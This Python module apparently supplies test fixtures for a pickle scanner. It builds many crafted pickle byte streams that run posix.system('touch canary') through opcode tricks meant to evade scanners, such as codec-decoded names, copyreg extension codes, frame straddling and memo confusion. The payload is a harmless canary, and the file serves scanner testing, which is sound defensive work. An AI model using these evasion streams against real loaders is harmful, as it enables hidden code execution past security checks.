"""attack_streams.py - the ways past pickle scanners that lie in the opcodes themselves.

Each stream touches a file called "canary" in the working directory, nothing more. An Attack says
what a scan must find, and how an application has to load the stream for it to work.
"""

from __future__ import annotations

import struct
from collections.abc import Iterator
from dataclasses import dataclass

SHELL = b"touch canary"


@dataclass
class Attack:
    row: str  # of the list of techniques
    name: str
    stream: bytes
    words: tuple[str, ...] = ("system",)  # that the reasons contain
    verdict: str = "malicious"
    load: str = "load"  # see LOADERS in test_opcode_attacks.py; "" where loading shows nothing
    pythons: str = "all"  # or "self": only the interpreter that runs the tests
    absent: tuple[str, ...] = ()  # versions that have no such function

    @property
    def title(self) -> str:
        return f"{self.row}-{self.name}"


def text(value: str | bytes) -> bytes:
    data = value.encode() if isinstance(value, str) else value
    return b"X" + struct.pack("<I", len(data)) + data


def raw(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def name(module: str, path: str) -> bytes:
    return f"c{module}\n{path}\n".encode()


def call(callee: bytes, *args: bytes) -> bytes:
    return callee + b"(" + b"".join(args) + b"tR"


def attribute(owner: bytes, path: str) -> bytes:
    return call(name("builtins", "getattr"), owner, text(path))


def frame(size: int) -> bytes:
    return b"\x95" + struct.pack("<Q", size)


SYSTEM = name("posix", "system")
RUN = call(SYSTEM, text(SHELL))
ABSENT = {"resolve-name": ("3.8",), "mock-target": ("3.11", "3.12", "3.13", "3.14")}
MODULE = call(name("importlib", "import_module"), text("posix"))
CODE = "__import__('posix').system('touch canary')"


def stack_global(module: bytes, path: bytes) -> bytes:
    return module + path + b"\x93" + b"(" + text(SHELL) + b"tR."


def broken() -> Iterator[Attack]:
    """Errors after the effect, opcodes that scanners trip over."""
    short = b"\x8c\x05posix\x8c\x06system\x93\x8c\x0ctouch canary\x85R."
    yield Attack("O1", "garbage-after-call", RUN + b"\xff\xfe\xfd")
    yield Attack("O1", "cut-after-call", RUN + b"X\xff\xff")
    yield Attack("O2", "unset-memo-key", RUN + b"h\x63.")
    yield Attack("O3", "bytes-as-name", RUN + raw(b"a") + b"K\x01\x93.")
    yield Attack("O4", "bytearray-as-name", RUN + b"\x96" + struct.pack("<Q", 1) + b"a2\x93.")
    yield Attack("O4", "bytearray-in-set", b"\x8f(\x96" + struct.pack("<Q", 0) + RUN + b"\x90.")
    yield Attack("O5", "operands-from-the-first-byte", short)
    yield Attack("O13", "result-popped", RUN + b"0}.")
    yield Attack("O13", "result-under-pop-mark", b"}(" + RUN + b"1.")
    yield Attack("O18", "put-twice", b"]p0\n0}p0\n0" + RUN + b".")
    yield Attack("O18", "items-and-mark-left", b"](}" + RUN + b"N.")
    yield Attack("O37", "proto-in-the-middle", RUN + b"\x80\x02.")
    yield Attack("O37", "proto-above-5", RUN + b"\x80\x09.")
    known = b"\x96" + struct.pack("<Q", 1) + b"x0F1.5\n0G" + b"\0" * 8 + b"0\x8a\x01\x050"
    yield Attack("O34", "bytearray8-and-floats", known + RUN + b".")
    yield Attack("O34", "readonly-buffer", b"\x97\x980" + RUN + b".", load="buffers")


def operands() -> Iterator[Attack]:
    """Names that come to STACK_GLOBAL in other ways."""
    yield Attack("O6", "string", stack_global(b"S'posix'\n", b"S'sys\\x74em'\n"))
    yield Attack("O6", "binstring", stack_global(b"T\5\0\0\0posix", b"T\6\0\0\0system"))
    yield Attack("O6", "short-binstring", stack_global(b"U\5posix", b"U\6system"))
    yield Attack("O6", "unicode-escapes", stack_global(b"V\\u0070osix\n", b"Vs\\U00000079stem\n"))
    confused = text("posix") + text("math") + b"0p0\n0" + text("math") + b"p1\n0"
    yield Attack("O7", "put-of-the-stack-top", confused + stack_global(b"g0\n", text("system")))
    twice = text("math") + b"q\0" + b"0" + text("posix") + b"q\0" + text("x") + b"0"
    yield Attack("O7", "put-twice", twice + stack_global(b"h\0", text("system")))
    str_call = b"(" + text("posix") + b"ibuiltins\nstr\np0\n0"
    yield Attack("O10", "module-by-inst-str", str_call + stack_global(b"g0\n", text("system")))
    joined = call(
        b"\x80\x04" + name("builtins", "str.join"), text(""), b"(" + text("po") + text("six") + b"l"
    )
    yield Attack("O10", "module-by-join", stack_global(joined, text("system")))
    encoded = call(name("_codecs", "decode"), raw(b"posix"), text("latin1"))
    yield Attack("O10", "module-by-decode", stack_global(encoded, text("system")))
    utf7 = call(name("builtins", "str"), raw(b"+AHAAbwBzAGkAeA-"), text("utf-7"))
    yield Attack("O10", "module-by-unusual-codec", stack_global(utf7, text("system")), words=())


def registry() -> Iterator[Attack]:
    """Extension codes, and pushes that come from the application."""
    args = text("posix") + text("system") + b"K\x07"
    register = call(name("copyreg", "add_extension"), args) + b"0"
    run = b"(" + text(SHELL) + b"tR."
    yield Attack("O11", "ext1", register + b"\x82\x07" + run)
    yield Attack("O11", "ext2", register + b"\x83\x07\x00" + run)
    yield Attack("O11", "ext4", register + b"\x84\x07\0\0\0" + run)
    table = name("copyreg", "_inverted_registry") + b"K\x08" + text("posix") + text("system")
    yield Attack("O11", "by-table", table + b"\x86s0\x82\x08" + run, words=())
    old = register.replace(b"copyreg", b"copy_reg")
    yield Attack(
        "O12",
        "ext-pushes-one",
        old + text("posix") + b"\x82\x070" + stack_global(b"", text("system")),
    )
    posix = text("posix")
    pid = stack_global(posix + b"Px\n0", text("system"))
    yield Attack("O12", "persid-pushes-one", pid, load="persistent")
    buffer = stack_global(posix + b"\x970", text("system"))
    yield Attack("O12", "next-buffer-pushes-one", buffer, load="buffers")
    yield Attack(
        "O36", "binpersid", stack_global(posix + b"NQ0", text("system")), load="persistent"
    )


def hidden_by_frame(filler: int) -> bytes:
    """The argument begins in a frame and does not fit; what follows is bytes, or opcodes."""
    kept = 4
    hidden = RUN + b"0"
    inside = raw(b"f" * filler) + b"0\x8c\x14"
    behind = b"C" + bytes([kept - 2 + len(hidden)]) + b"NN" + hidden
    return b"\x80\x04" + frame(len(inside) + kept) + inside + b"a" * 20 + behind + b"0N."


def divergences() -> Iterator[Attack]:
    """What interpreters take and pickletools does not, or they do otherwise."""
    yield Attack("O14", "frame-straddle-file", hidden_by_frame(1 << 17))
    yield Attack("O14", "frame-straddle-bytesio", hidden_by_frame(10), load="BytesIO")
    yield Attack("O15", "int-base-16", b"I0x10\n0" + RUN + b".")
    yield Attack("O15", "long-base-2", b"L0b101L\n0" + RUN + b".")
    yield Attack("O16", "nul-in-int", b"I1\0junk\n0" + RUN + b".")
    yield Attack("O16", "nul-in-put-and-get", b"Np1\0junk\n0g1\0\n0" + RUN + b".")
    yield Attack("O17", "encoding-utf-8", b"S'\xc3\xa9'\n0" + RUN + b".", load="utf-8")
    yield Attack("O17", "encoding-latin1", b"U\1\xff0" + RUN + b".", load="latin1")
    yield Attack("O19", "appends-without-mark", RUN + b"e.")
    yield Attack("O19", "large-memo-key", b"Np100000\n0" + RUN + b"p100000\n0g100000\n.")
    beyond = b"Np99999999999999999999\n0g99999999999999999999\n0"
    yield Attack("O19", "put-beyond-ssize", beyond + RUN + b".", load="pickle.py")
    listed = SYSTEM + b"]" + text(SHELL) + b"aR."
    yield Attack("O19", "reduce-with-a-list", listed, load="pickle.py")
    falsy = name("argparse", "Namespace") + b")\x81]b0"
    yield Attack("O19", "build-with-a-list", falsy + RUN + b".", load="pickle.py")
    overlapping = frame(60) + b"N0" + frame(8) + b"N0N0N0" + RUN + b"."
    overlapping += b"." * 40
    yield Attack("O19", "overlapping-frames", overlapping, load="loads")
    last_line = call(name("posix", "system"), text(SHELL)) + b"cposix\nsystemx"
    yield Attack("O19", "last-line-cut", last_line, load="pickle.py")
    yield Attack("O20", "second-pickle", b"\x80\x02}." + RUN + b".", load="repeated")
    across = text("posix") + b"p0\n." + stack_global(b"g0\n", text("system"))
    yield Attack("O20", "memo-of-the-first", across, load="repeated")
